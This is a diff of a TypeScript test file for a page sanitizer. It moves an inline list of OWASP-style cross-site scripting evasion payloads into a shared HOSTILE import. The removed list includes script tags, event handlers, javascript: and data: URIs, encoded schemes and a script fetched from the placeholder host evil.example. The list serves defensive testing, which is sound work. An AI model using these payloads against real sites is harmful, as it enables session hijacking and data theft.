@@ -2,35 +2,9 @@ import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { openPage } from "../page";
 import { readFeed } from "../read";
+import { HOSTILE } from "../test-hostile";
 import { guardian } from ".";
 import { at, element, htmlPage, ID, model, modelBlock, ms, NOW, PAGE, shapes } from "./test-pages";
-
-/** The ways around filters that OWASP lists, each with `steal()` where code would be. */
-const ATTACKS = [
-  "<script>steal()</script>",
-  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-  "<scr<script>ipt>steal()</scr</script>ipt>",
-  "<img src=x onerror=steal()>",
-  "<img src=`javascript:steal()`>",
-  '<img """><script>steal()</script>">',
-  "<svg/onload=steal()><animate onbegin=steal()></svg>",
-  "<a href='javascript:steal()'>link</a>",
-  "<a href=' jav&#x09;ascript:steal()'>link</a>",
-  "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()'>link</a>",
-  "<a href='data:text/html;base64,PHNjcmlwdD4='>link</a>",
-  "<a href='vbscript:steal()'>link</a>",
-  "<iframe src='javascript:steal()'></iframe>",
-  "<iframe srcdoc='<script>steal()</script>'></iframe>",
-  "<object data='data:text/html,<script>steal()</script>'></object><embed src='javascript:steal()'>",
-  "<form action='javascript:steal()'><button formaction='javascript:steal()'>go</button></form>",
-  "<style>@import 'javascript:steal()';</style><link rel=stylesheet href='javascript:steal()'>",
-  "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
-  "<base href='javascript:steal()//'>",
-  "<table background='javascript:steal()'><tr><td style='width:expression(steal())'>cell</td></tr></table>",
-  "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
-  "<math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
-  "\\u003cscript\\u003esteal()\\u003c/script\\u003e<b onmouseover=steal()>bold</b>",
-];
 
 const FIELDS = new Set(
   "type text marks from to style href ordered items list paragraphs cite header rows src alt caption source provider url id headline publishedAt modifiedAt byline name body keyEvent pinned".split(
@@ -55,7 +29,7 @@ function read(body: string) {
   return result.value.snapshot;
 }
 
-describe.each(ATTACKS)("hostile markup comes out as text and http(s) links at most: %s", (attack) => {
+describe.each(HOSTILE)("hostile markup comes out as text and http(s) links at most: %s", (attack) => {
   it("in the fields of the model", () => {
     const fields = Object.fromEntries(
       "title html caption text url originalUrl embedUrl attribution source providerName description mediaTitle"
@@ -93,7 +67,7 @@ describe.each(ATTACKS)("hostile markup comes out as text and http(s) links at mo
 
 const anyText = fc.oneof(
   fc.string(),
-  fc.constantFrom(...ATTACKS, ID.won, `block-${ID.won}`, at("12:00"), "1.00pm BST"),
+  fc.constantFrom(...HOSTILE, ID.won, `block-${ID.won}`, at("12:00"), "1.00pm BST"),
 );
 const value = fc.oneof(anyText, fc.integer(), fc.constant(null), fc.boolean(), fc.double(), fc.jsonValue());
 const looseBlock = fc.record(
